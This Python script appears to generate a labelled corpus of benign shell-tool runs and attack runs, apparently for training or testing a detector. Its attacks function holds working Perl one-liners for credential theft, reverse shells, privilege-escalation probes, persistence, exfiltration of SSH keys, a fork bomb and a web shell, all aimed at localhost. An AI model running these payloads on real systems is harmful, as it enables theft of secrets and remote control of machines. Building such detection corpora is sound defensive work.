"""Corpus `tools`: a shell user's tools. Benign: coreutils pipelines, find, tar/gzip/xz/zip,
editors in batch mode (ed, vi -es), diff/patch, sqlite3, pip offline (list, show, install of
a local wheel into a scratch target). Attacks are written in Perl: see common.py for how they
are kept harmless.

    python3 benches/corpora/tools.py OUT [BENIGN_RUNS]
"""

import os
import subprocess
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import (main, listener, shell_driver, shell_commands, sink, free_port,  # noqa: E402
                    web_client, write, WEB_PATHS)

PIPES = [
    "sort words.txt | uniq -c | sort -rn | head -{k}",
    "cut -d' ' -f1 words.txt | tr a-z A-Z | wc -l",
    "ls -lR /usr/share/doc | head -{k}00 | wc -c",
    "du -s . ; df -h . ; stat words.txt",
    "find /usr/share/doc -maxdepth 2 -name '*.gz' | head -{k}0 | xargs ls -l | wc -l",
    "cp words.txt w2.txt && mv w2.txt w3.txt && cmp words.txt w3.txt && rm w3.txt",
    "grep -c e words.txt; grep -v a words.txt | tail -{k}",
    "seq {k}000 | paste -sd+ | wc -c; date; id; uname -a",
    "mkdir -p a/b/c && touch a/b/c/{{1,2,3}} && find a -type f | sort && rm -r a",
    "sha256sum words.txt; md5sum words.txt; base64 words.txt | head -{k}",
]
ARCHIVES = [
    "tar czf w.tgz words.txt && tar tzf w.tgz && rm w.tgz",
    "gzip -k words.txt && gunzip -c words.txt.gz | wc -l",
    "xz -k words.txt && xz -dc words.txt.xz | tail -1",
    "bzip2 -k words.txt && bzip2 -t words.txt.bz2",
    "zip -q w.zip words.txt && unzip -l w.zip",
    "mkdir d && cp words.txt d/ && tar cf - d | tar xf - -C /tmp/ -O > /dev/null; tar cJf d.txz d && ls -l d.txz",
]
EDITS = [
    ["ed", "-s", "words.txt"], ["vi", "-es", "words.txt"], ["ex", "-s", "words.txt"],
]
EDIT_SCRIPTS = ["1,$s/a/A/g\nw\nq\n", "$a\nnew line\n.\nw\nq\n", "/e/d\nw\nq\n", "1,{k}d\nw\nq\n"]


def benign(c, n):
    rng = c.rng
    words = "\n".join(" ".join(rng.choice(["alpha", "beta", "gamma", "delta", "echo", "kilo", "lima"])
                               for _ in range(rng.randrange(1, 8))) for _ in range(400)) + "\n"
    wheel_dir = os.path.join(c.scratch, "wheels")
    os.makedirs(wheel_dir)
    pkg = os.path.join(c.scratch, "pkg")
    write(os.path.join(pkg, "toy", "__init__.py"), "VALUE = 1\n")
    write(os.path.join(pkg, "setup.py"), "from setuptools import setup\nsetup(name='toy', version='1.0', packages=['toy'])\n")
    subprocess.run(["/usr/bin/python3", "-m", "pip", "wheel", "-q", "--no-deps", "--no-build-isolation",
                    "-w", wheel_dir, pkg], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    subprocess.run(["chmod", "-R", "a+rX", c.scratch])
    wheels = [os.path.join(wheel_dir, f) for f in os.listdir(wheel_dir)]
    kinds = ["pipe", "pipe", "pipe", "archive", "archive", "edit", "diff", "sqlite", "pip"]
    for i in range(n):
        kind = rng.choice(kinds)
        w = c.workdir()
        write(os.path.join(w, "words.txt"), words[: rng.randrange(200, len(words))])
        k = rng.randrange(1, 9)
        if kind == "pipe":
            cmd = " ; ".join(p.format(k=k) for p in rng.sample(PIPES, rng.randrange(1, 4)))
            c.record("benign", kind, ["sh", "-c", cmd], cwd=w)
        elif kind == "archive":
            c.record("benign", kind, ["sh", "-c", rng.choice(ARCHIVES)], cwd=w)
        elif kind == "edit":
            c.record("benign", kind, rng.choice(EDITS), cwd=w, stdin=rng.choice(EDIT_SCRIPTS).format(k=k))
        elif kind == "diff":
            c.record("benign", kind, ["sh", "-c",
                     f"sed 's/beta/BETA/;{k}d' words.txt > new.txt; diff -u words.txt new.txt > p.diff; "
                     "patch -s words.txt < p.diff && cmp words.txt new.txt && echo same"], cwd=w)
        elif kind == "sqlite":
            c.record("benign", kind, ["sqlite3", "db"], cwd=w, stdin=(
                "create table t(a, b);\n" + "".join(f"insert into t values({j}, 'x{j}');\n" for j in range(k * 10))
                + "select count(*), sum(a) from t;\n.tables\n"))
        elif kind == "pip":
            if wheels and rng.random() < 0.5:
                argv = ["python3", "-m", "pip", "install", "-q", "--no-index", "--no-deps", "--target", "t",
                        rng.choice(wheels)]
            else:
                argv = ["python3", "-m", "pip", rng.choice(["list", "show pip", "freeze", "--version"])]
                argv = argv[:3] + argv[3].split() if len(argv) > 3 else argv
                argv = [a for a in argv if a]
            c.record("benign", kind, ["sh", "-c", " ".join(argv)], cwd=w)


def attacks(c):
    rng = c.rng
    h = c.home
    for v in range(3):
        pl = lambda name, code, **kw: c.record("attack", name, ["perl", "-e", code], **kw)
        # Credential hunting.
        pl("cred_hunt", [
            f"use File::Find; find(sub {{ if (/^id_|credentials|\\.env|\\.netrc/) {{ open(my $f, '<', $_) and print <$f> }} }}, '{h}');",
            f"use File::Find; find(sub {{ return unless -f; open(my $f, '<', $_) or return; while (<$f>) {{ print \"$File::Find::name\\n\" if /PRIVATE KEY|AKIA|token/ }} }}, '{h}'); print map {{ \"$_\\n\" }} grep {{ /KEY|TOKEN/ }} keys %ENV;",
            f"for my $p (qw(.ssh/id_rsa .aws/credentials .docker/config.json .config/gh/hosts.yml)) {{ open(my $f, '<', \"{h}/$p\") and print <$f> }}",
        ][v])
        # Reverse shell.
        port, t = listener(shell_driver(shell_commands(h, v)))
        pl("reverse_shell", [
            f"use Socket; socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp')); connect(S, sockaddr_in({port}, inet_aton('127.0.0.1'))) or die; open(STDIN, '>&S'); open(STDOUT, '>&S'); open(STDERR, '>&S'); exec('/bin/sh -i');",
            f"use IO::Socket::INET; my $s = IO::Socket::INET->new('127.0.0.1:{port}') or die; while (<$s>) {{ last if /^exit/; print $s `$_` }}",
            f"use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr => '127.0.0.1', PeerPort => {port}) or die; open(STDIN, '<&', $s); open(STDOUT, '>&', $s); system('/bin/bash', '-i');",
        ][v])
        t.join(5)
        # Privilege escalation attempts.
        pl("privesc", [
            "for (qw(/etc/shadow /etc/sudoers /root/.bash_history)) { open(my $f, '<', $_) or print \"$_: $!\\n\" } $< = 0; $> = 0; print \"$<\\n\";",
            "use File::Find; find(sub { print \"$File::Find::name\\n\" if -u $_ }, '/usr/bin', '/usr/sbin');",
            "for (qw(/etc/passwd /etc/cron.d/x /etc/ld.so.preload)) { open(my $f, '>>', $_) or print \"$_: $!\\n\" } system('su', '-c', 'id'); open(my $e, '<', '/proc/1/environ') or print \"$!\\n\";",
        ][v])
        # Persistence.
        pl("persistence", [
            f"open(my $f, '>>', '{h}/.bashrc') or die; print $f \"perl -e 1 &\\n\"; open(my $c, '>', '{h}/.crontab'); print $c \"* * * * * perl /tmp/x\\n\";",
            f"mkdir '{h}/.config/autostart'; open(my $f, '>', '{h}/.config/autostart/p.desktop') or die; print $f \"[Desktop Entry]\\nExec=/tmp/x\\n\"; chmod 0755, '{h}/.config/autostart/p.desktop';",
            f"use File::Copy; copy('/bin/true', '{h}/.helper'); chmod 0755, '{h}/.helper'; open(my $f, '>>', '{h}/.profile'); print $f \"~/.helper &\\n\";",
        ][v])
        # Miner-like: digest loops in forked workers.
        pl("miner", "use Digest::SHA qw(sha256); my @k; for my $w (1.." + str(2 + v) + ") { my $p = fork(); if (!$p) { my $h = 'x'; $h = sha256($h) for 1..150000; exit 0 } push @k, $p } waitpid($_, 0) for @k;")
        # Exfiltration.
        port, t = listener(sink)
        pl("exfiltration", [
            f"use IO::Socket::INET; my $s = IO::Socket::INET->new('127.0.0.1:{port}') or die; open(my $t, '-|', 'tar', 'czf', '-', '{h}'); local $/; print $s <$t>;",
            f"use IO::Socket::INET; use File::Find; my $s = IO::Socket::INET->new('127.0.0.1:{port}') or die; find(sub {{ return unless -f; open(my $f, '<', $_) or return; local $/; print $s <$f> }}, '{h}');",
            f"use IO::Socket::INET; use MIME::Base64; my $s = IO::Socket::INET->new('127.0.0.1:{port}') or die; open(my $f, '<', '{h}/.ssh/id_rsa'); local $/; print $s encode_base64(<$f>);",
        ][v])
        t.join(5)
        # Fork storm, bounded by depth.
        pl("fork_bomb", "sub b { my $d = shift; return if $d == 0; for (1..2) { my $p = fork(); if (!$p) { b($d - 1); exit 0 } } 1 while wait() != -1 } b(" + str(4 + v) + ");")
        # Web shell.
        port = free_port()
        server = ("use IO::Socket::INET; my $l = IO::Socket::INET->new(LocalAddr => '127.0.0.1', LocalPort => " + str(port)
                  + ", Listen => 5, ReuseAddr => 1) or die; while (my $c = $l->accept) { my $r = <$c>; my ($p) = $r =~ m{^GET /(\\S*)}; "
                  "exit 0 if $p eq 'quit'; $p =~ s/%([0-9A-Fa-f]{2})/chr(hex($1))/ge; print $c \"HTTP/1.0 200 OK\\r\\n\\r\\n\" . `$p`; close $c }")
        pl("web_shell", server, during=web_client(port, rng.sample(WEB_PATHS, 2 + v)))


if __name__ == "__main__":
    main(benign, attacks, 150)
